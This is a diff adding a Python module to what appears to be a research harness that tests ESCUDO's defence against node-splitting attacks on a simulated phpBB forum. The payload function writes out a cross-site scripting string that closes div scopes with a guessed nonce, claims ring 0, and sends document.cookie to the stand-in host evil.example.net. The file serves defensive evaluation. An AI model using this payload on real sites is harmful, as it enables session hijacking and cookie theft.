@@ -1,0 +1,99 @@
+"""Node-splitting attacks against the AC-tag configuration.
+
+Section 5 of the paper: an attacker whose text lands inside a low-privilege
+AC scope injects a premature ``</div>`` terminator and then opens a *new*
+``div`` claiming a privileged ring, hoping the content that follows (their
+script) escapes the restrictions of the scope the developer put it in.
+ESCUDO defeats this with markup randomisation -- terminators whose nonce
+does not match the enclosing AC tag are ignored -- and, as a second layer,
+the scoping rule clamps any nested ring claim to the enclosing scope's ring.
+
+The corpus here targets the phpBB reply scope; the same payloads are reused
+by the ablation benchmark with markup randomisation disabled to show that
+the nonce check is the load-bearing defence against the *markup* variant of
+the attack.
+"""
+
+from __future__ import annotations
+
+from .harness import Attack, AttackEnvironment, visit
+
+
+def node_splitting_payload(guessed_nonce: str = "0000000000000000", depth: int = 3) -> str:
+    """User content that tries to break out of its ring-3 message scope.
+
+    phpBB wraps each post in ``<div ring=3 ...><div class="post"><div
+    class="post-body">…`` -- three nested ``div`` elements, of which only the
+    outermost is an AC tag.  The page structure is public, so the attacker
+    injects ``depth`` terminators to climb all the way out of the message
+    scope (the inner wrappers carry no nonce and always close; the AC tag is
+    the one markup randomisation protects).  The attacker cannot know the
+    real per-response nonce, so they guess one on the last terminator; they
+    then open a fresh ``div`` claiming ring 0 and put their script inside it.
+    """
+    terminators = "</div>" * max(depth - 1, 0) + f'</div nonce="{guessed_nonce}">'
+    return (
+        "totally normal message"
+        + terminators
+        + '<div ring="0" r="0" w="0" x="0">'
+        "<script>"
+        "var header = document.getElementById('whoami');"
+        "if (header != null) { header.textContent = 'escaped the sandbox'; }"
+        "var loot = document.cookie;"
+        "var xhr = new XMLHttpRequest();"
+        "xhr.open('GET', 'http://evil.example.net/collect?c=' + loot);"
+        "xhr.send();"
+        "</script>"
+        "</div>"
+    )
+
+
+def _chrome_defaced(env: AttackEnvironment) -> bool:
+    if env.loaded is None:
+        return False
+    element = env.loaded.page.document.get_element_by_id("whoami")
+    return element is not None and "escaped the sandbox" in element.text_content
+
+
+def _escaped_or_leaked(env: AttackEnvironment) -> bool:
+    session = env.victim_cookie_value()
+    leaked = bool(session) and env.attacker.received(session)
+    return _chrome_defaced(env) or leaked
+
+
+def phpbb_node_splitting_attack() -> Attack:
+    """Node-splitting attempt via a forum reply."""
+
+    def plant(env: AttackEnvironment) -> None:
+        env.app.add_reply(1, "mallory", node_splitting_payload())
+
+    return Attack(
+        name="phpbb-node-splitting",
+        app_key="phpbb",
+        category="node-splitting",
+        description="reply injects </div> + a ring-0 div to escape its message scope",
+        plant=plant,
+        victim_action=lambda env: visit(env, "/viewtopic?t=1"),
+        succeeded=_escaped_or_leaked,
+    )
+
+
+def injected_script_ring(env: AttackEnvironment) -> int | None:
+    """Ring the injected script actually ended up in (diagnostic helper).
+
+    Returns ``None`` when the script element cannot be found.  Tests use
+    this to assert that, with nonces active, the injected ring-0 claim was
+    confined to ring 3.
+    """
+    if env.loaded is None:
+        return None
+    for script in env.loaded.page.document.scripts():
+        if "escaped the sandbox" in script.text_content:
+            context = script.security_context
+            return context.ring.level if context is not None else None
+    return None
+
+
+def all_node_splitting_attacks() -> list[Attack]:
+    """The node-splitting corpus."""
+    return [phpbb_node_splitting_attack()]
